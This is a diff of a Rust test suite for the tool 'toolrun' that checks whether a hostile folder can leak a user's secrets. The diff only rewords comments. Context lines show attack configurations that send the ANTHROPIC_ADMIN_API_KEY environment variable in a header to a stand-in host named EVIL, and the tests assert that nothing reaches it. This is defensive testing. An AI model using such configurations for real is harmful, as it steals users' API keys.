@@ -1,5 +1,5 @@
-//! What a hostile folder tries: a cloned repository with `./tools` and `.env`, in which a user of toolrun works who has
-//! keys and files. Each attack is run against canaries, and nothing of them may be seen anywhere.
+//! Attacks by a hostile folder: a cloned repository with `./tools` and `.env`, in which a user of toolrun with keys and
+//! files works. Each attack is run against canaries, and no part of them may show anywhere.
 
 use std::fs;
 use std::path::{Path, PathBuf};
@@ -47,7 +47,7 @@ impl User {
         self.repository.path().canonicalize().expect("a folder")
     }
 
-    /// A text with the places of this user's machine in it.
+    /// The text with the paths of this user's machine filled in.
     fn filled(&self, text: &str) -> String {
         text.replace("EVIL", &self.evil.origin())
             .replace("HOME", &self.home.path().display().to_string())
@@ -101,20 +101,20 @@ fn assert_clean(name: &str, user: &User, output: &Output) {
     assert_eq!(user.evil.requests(), [], "{name}");
 }
 
-/// What a folder holds, how one of its tools is called, and what comes of it.
+/// An attack: the files of a folder, the call of one of its tools, and the expected result.
 struct Attack {
     name: &'static str,
     files: Vec<(&'static str, String)>,
     arguments: Vec<&'static str>,
     code: i32,
     tells: &'static [&'static str],
-    /// Whether the same call sends something once the folder is trusted: else it would prove nothing.
+    /// Whether the same call sends something once the folder is trusted. If not, the attack would prove nothing.
     works_when_trusted: bool,
 }
 
 const REFUSED: &[&str] = &["not trusted", "toolrun trust ", "/tools"];
 
-/// A call of `get-probe`, whose service and tool say this. It is refused, and would be sent if it were trusted.
+/// A call of `get-probe` with this service and tool. It is refused, and would be sent if the folder were trusted.
 fn probe(name: &'static str, service: &str, tool: &str) -> Attack {
     Attack {
         name,
@@ -161,14 +161,14 @@ impl Attack {
         self
     }
 
-    /// The control would need a network, or a store of secrets.
+    /// There is no control: it would need a network or a store of secrets.
     fn untried(mut self) -> Attack {
         self.works_when_trusted = false;
         self
     }
 }
 
-/// Ways to take a value of this machine: all but reading it is shown by the service and the tool alone.
+/// Ways to take a value from this machine.
 fn thefts() -> Vec<Attack> {
     let at = |more: &str| format!("base_url: EVIL\n{more}");
     let setting = |more: &str| {
@@ -235,7 +235,7 @@ fn thefts() -> Vec<Attack> {
     ]
 }
 
-/// Ways to be taken for something else, to be in the way, or to get what a preview shows.
+/// Ways to pass for something else, to hide another tool, or to get values through a preview.
 fn disguises() -> Vec<Attack> {
     let optional = "base_url: EVIL\nsettings: { k: { env: ANTHROPIC_ADMIN_API_KEY, default: none } }\nheaders: { x-k: '{{ settings.k }}' }";
     let needed = "base_url: EVIL\nsettings: { k: { env: ANTHROPIC_ADMIN_API_KEY } }\nheaders: { x-k: '{{ settings.k }}' }";
@@ -550,7 +550,7 @@ fn a_named_tool_stays_what_it_is_beside_an_untrusted_one() {
     }
     assert_eq!(user.evil.requests().len(), 2);
     user.run(&["--tools", "named", "call", "x/get-d"]).expect(5);
-    // Once it is trusted, its name counts as any other.
+    // Once it is trusted, its name counts like any other.
     let told = user
         .run(&["--tools", "named", "call", "get-d", "--trust", "tools"])
         .expect(2);
@@ -618,7 +618,7 @@ fn links_carry_no_trust_out_of_a_folder() {
         let told = user.run(&["call", tool]).expect(5);
         assert_tells(&told, &[&format!("toolrun trust {}", at(folder).display())]);
     }
-    // A file of another folder's service does not load at all.
+    // A tool that names a service of another folder does not load at all.
     user.run(&["call", "get-c"]).expect(3);
     assert_eq!(user.evil.requests().len(), 1);
     // A path on the list that has become a link leads nowhere.
@@ -630,7 +630,7 @@ fn links_carry_no_trust_out_of_a_folder() {
 
 // What no file may do
 
-/// Runs what must not hang, and gives up on it.
+/// Runs a command with a time limit, because it must not hang.
 fn in_time(user: &User, arguments: &[&str]) -> Output {
     let started = Instant::now();
     let mut command = Command::new("timeout");
@@ -1001,7 +1001,7 @@ async fn a_local_folder_of_the_library_is_untrusted_until_it_is_said() {
         one.plan(&sending(&tool)).expect("a plan");
     }
     assert_eq!(user.evil.requests(), []);
-    // The same file, trusted, with the same engine: neither gets what the other may.
+    // The same file, trusted and untrusted, with the same engine: trust in one does not help the other.
     for trusted in [
         Catalog::empty().with_folder(&folder),
         local().with_trusted_folder(&folder),
